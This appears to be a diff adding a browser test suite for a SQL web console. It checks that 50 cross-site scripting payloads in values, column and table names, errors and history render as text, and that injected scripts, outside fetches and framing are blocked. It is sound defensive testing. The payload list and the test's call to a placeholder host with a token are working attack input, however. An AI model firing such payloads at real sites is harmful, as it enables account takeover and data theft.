@@ -1,0 +1,160 @@
+// What others put into values, names, errors and SQL is text; and what the page may do is limited.
+import assert from "node:assert/strict";
+import { createServer } from "node:http";
+import { after, before, test } from "node:test";
+import { cells, controlUrl, key, openBrowser, run, signedIn, sql, typeSql } from "./browser.mjs";
+
+const SCRIPT = "window.pwned=1";
+// Each would run if it were taken for HTML, for an address or for a part of an attribute.
+const PAYLOADS = [
+  `<script>${SCRIPT}</script>`,
+  `<SCRIPT SRC=data:,${SCRIPT}></SCRIPT>`,
+  `<img src=x onerror=${SCRIPT}>`,
+  `<img src=x onerror="${SCRIPT}"/>`,
+  `<IMG """><SCRIPT>${SCRIPT}</SCRIPT>">`,
+  `<svg onload=${SCRIPT}>`,
+  `<svg/onload=${SCRIPT}//`,
+  `<svg><script>${SCRIPT}</script></svg>`,
+  `<svg><animate onbegin=${SCRIPT} attributeName=x dur=1s>`,
+  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='${SCRIPT}'/>#x"/></svg>`,
+  `<body onload=${SCRIPT}>`,
+  `<iframe src="javascript:parent.${SCRIPT}"></iframe>`,
+  `<iframe srcdoc="<script>parent.${SCRIPT}</script>"></iframe>`,
+  `<object data="javascript:${SCRIPT}"></object>`,
+  `<embed src="javascript:${SCRIPT}">`,
+  `<a href="javascript:${SCRIPT}" autofocus onfocus=${SCRIPT}>x</a>`,
+  `<input autofocus onfocus=${SCRIPT}>`,
+  `<select autofocus onfocus=${SCRIPT}>`,
+  `<textarea autofocus onfocus=${SCRIPT}>`,
+  `<details open ontoggle=${SCRIPT}>`,
+  `<video><source onerror=${SCRIPT}></video>`,
+  `<audio src=x onerror=${SCRIPT}>`,
+  `<marquee onstart=${SCRIPT}>`,
+  `<style>@import 'javascript:${SCRIPT}';</style>`,
+  `<style onload=${SCRIPT}></style>`,
+  `<link rel=stylesheet href=data:text/css,*{} onload=${SCRIPT}>`,
+  `<meta http-equiv=refresh content="0;url=javascript:${SCRIPT}">`,
+  `<base href="javascript:${SCRIPT}//">`,
+  `<form action="javascript:${SCRIPT}"><button>x</button></form>`,
+  `<math><mtext><script>${SCRIPT}</script></mtext></math>`,
+  `<template><script>${SCRIPT}</script></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${SCRIPT}>">`,
+  `</title><script>${SCRIPT}</script>`,
+  `</textarea><script>${SCRIPT}</script>`,
+  `</style><script>${SCRIPT}</script>`,
+  `</span></div><script>${SCRIPT}</script>`,
+  `"><script>${SCRIPT}</script>`,
+  `'><script>${SCRIPT}</script>`,
+  `" onmouseover="${SCRIPT}" x="`,
+  `' onfocus='${SCRIPT}' autofocus='`,
+  `javascript:${SCRIPT}`,
+  `data:text/html,<script>${SCRIPT}</script>`,
+  `<!--><script>${SCRIPT}</script>-->`,
+  `<![CDATA[<script>${SCRIPT}</script>]]>`,
+  `&lt;script&gt;${SCRIPT}&lt;/script&gt;`,
+  `&#60;script&#62;${SCRIPT}&#60;/script&#62;`,
+  `\\u003cscript\\u003e${SCRIPT}\\u003c/script\\u003e`,
+  `{{constructor.constructor('${SCRIPT}')()}}`,
+  `\${${SCRIPT}}`,
+  `<x contenteditable onblur=${SCRIPT} tabindex=0 id=x autofocus onfocus=${SCRIPT}>`,
+];
+
+let browser;
+let page;
+before(async () => {
+  browser = await openBrowser();
+  page = await signedIn(browser);
+});
+after(() => browser.close());
+
+const isUnharmed = async () => {
+  assert.equal(await page.evaluate("window.pwned"), undefined);
+  assert.equal(
+    await page.locator(".grid script, .grid img, .grid svg, .grid iframe, .failure img, .failure script").count(),
+    0,
+  );
+};
+
+const quoted = (text) => `'${text.replaceAll("'", "''")}'`;
+
+test("50 payloads in values are shown as text, also when a cell is opened", async () => {
+  assert.equal(new Set(PAYLOADS).size, 50);
+  await page.setViewportSize({ width: 1440, height: 2200 });
+  await run(page, `select v from (values ${PAYLOADS.map((each) => `(${quoted(each)})`).join(",\n")}) t (v)`);
+  await page.getByText("50 rows").waitFor();
+  assert.deepEqual(await cells(page), PAYLOADS);
+  await page.getByRole("gridcell").nth(2).dblclick();
+  assert.equal(await page.locator(".cell-view pre").innerText(), PAYLOADS[2]);
+  await isUnharmed();
+});
+
+test("so they are in names of columns, in errors, notices and the history", async () => {
+  const names = PAYLOADS.map((each, i) => `1 as "${`${i} ${each}`.replaceAll('"', '""').slice(0, 60)}"`);
+  await run(page, `select ${names.join(", ")}`);
+  await page.getByText("1 row ·").waitFor();
+  assert.equal(await page.getByRole("columnheader", { name: "0 <script>" }).count(), 1);
+  // One of each kind: the text takes the same way for all.
+  for (const payload of PAYLOADS.filter((_, i) => i % 5 === 0)) {
+    await run(page, `select ${quoted(payload)}::int`);
+    await page
+      .getByRole("alert")
+      .filter({ hasText: payload.slice(0, 30).trim() })
+      .waitFor();
+  }
+  await run(page, `do $$ begin raise notice '%', ${quoted(PAYLOADS[2])}; end $$`);
+  await page.getByRole("list", { name: "Notices" }).getByText(PAYLOADS[2]).waitFor();
+  await page.getByRole("button", { name: "History" }).click();
+  await page.getByRole("complementary", { name: "History" }).getByText("<script>").first().waitFor();
+  await isUnharmed();
+});
+
+test("so they are in names of tables that are completed", async () => {
+  await sql('create table "<img src=x onerror=window.pwned=1>" ("<script>window.pwned=1</script>" int)');
+  await page.reload();
+  await typeSql(page, "select * from ");
+  await page.keyboard.press("Control+Space");
+  await page.getByRole("option", { name: /<img src=x/ }).waitFor();
+  await isUnharmed();
+  await page.keyboard.press("Escape");
+  await sql('drop table "<img src=x onerror=window.pwned=1>"');
+});
+
+test("a script that someone gets into the page does not run, and can't call home", async () => {
+  const seen = await page.evaluate(async () => {
+    const script = document.createElement("script");
+    script.textContent = "window.pwned = 1";
+    document.body.append(script);
+    const image = document.createElement("div");
+    image.innerHTML = "<img src=x onerror='window.pwned = 1'>";
+    document.body.append(image);
+    const sent = await fetch("https://example.invalid/?token").then(
+      () => "sent",
+      () => "refused",
+    );
+    return { sent, pwned: window.pwned ?? null };
+  });
+  assert.deepEqual(seen, { sent: "refused", pwned: null });
+});
+
+test("no other page can frame the console", async () => {
+  const server = createServer((_, response) => {
+    response.setHeader("Content-Type", "text/html");
+    response.end(`<iframe src="${controlUrl}/console" width=800 height=600></iframe>`);
+  });
+  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
+  const other = await page.context().newPage();
+  const refused = other.waitForEvent("console", (message) => message.text().includes("frame-ancestors"));
+  await other.goto(`http://127.0.0.1:${server.address().port}/`);
+  await refused;
+  assert.equal(await other.frameLocator("iframe").getByLabel("API key").count(), 0);
+  await other.close();
+  server.close();
+});
+
+test("neither the key nor the token was in an address", () => {
+  assert.deepEqual(
+    page.asked.filter((url) => url.includes("svc_") || url.includes(key)),
+    [],
+  );
+  assert.deepEqual([...new Set(page.asked.map((url) => new URL(url).hostname))], [new URL(controlUrl).hostname]);
+});
